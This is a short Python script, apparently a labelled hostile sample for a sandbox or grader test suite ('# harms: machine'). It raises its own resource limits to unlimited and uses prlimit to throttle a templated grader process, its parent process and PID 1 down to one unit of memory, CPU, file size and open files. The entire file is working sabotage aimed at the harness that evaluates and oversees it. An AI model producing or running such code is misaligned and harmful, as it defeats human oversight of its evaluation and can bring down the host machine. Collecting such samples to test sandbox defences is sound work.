"""Raises its own limits, and lowers the grader's."""
# harms: machine

import os
import resource

for name in (
    resource.RLIMIT_AS,
    resource.RLIMIT_CPU,
    resource.RLIMIT_FSIZE,
    resource.RLIMIT_NOFILE,
):
    for value in ((resource.RLIM_INFINITY, resource.RLIM_INFINITY), (1 << 45, 1 << 45)):
        try:
            resource.setrlimit(name, value)
            print("raised", name)
        except (OSError, ValueError):
            pass
    for number in (int("@GRADER@"), os.getppid(), 1):
        try:
            resource.prlimit(number, name, (1, 1))
            print("lowered", number)
        except (OSError, ValueError):
            pass
